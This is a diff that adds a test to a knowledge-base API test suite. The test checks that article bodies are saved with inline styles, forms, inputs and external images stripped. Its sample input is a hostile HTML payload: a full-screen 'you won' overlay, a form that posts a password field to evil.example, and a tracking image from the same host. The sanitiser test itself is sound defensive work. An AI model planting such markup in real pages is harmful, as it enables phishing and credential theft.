@@ -138,3 +138,27 @@ describe('logged errors', () => {
     expect(logged).not.toContain('a@b.cn');
   });
 });
+
+describe('knowledge-base bodies', () => {
+  it('are saved without style, forms or external images', async () => {
+    const editor = await t.as('knowledge_editor');
+    const category = (await editor.post('/api/v1/kb/categories', { name: '安全' })).json().data;
+    const created = await editor.post('/api/v1/kb/articles', {
+      type: 'faq',
+      categoryId: category.id,
+      title: '覆盖层',
+      body: '<div style="position:fixed;inset:0">中奖了</div>\n<form action="https://evil.example"><input name="pw"></form>\n![x](https://evil.example/t.gif)',
+      audience: 'all_customers',
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const version = created.json().data.workingVersion.id as string;
+    const body = (await editor.get(`/api/v1/kb/versions/${version}`)).json().data.body as string;
+    expect(body).toContain('<div>中奖了</div>');
+    expect(body).not.toMatch(/style=|<form|<input|evil\.example/);
+    const patched = await editor.patch(`/api/v1/kb/versions/${version}`, {
+      body: '<span style="font-size:999px">big</span>',
+    });
+    expect(patched.statusCode, patched.body).toBe(200);
+    expect(patched.json().data.body).toBe('<span>big</span>');
+  });
+});
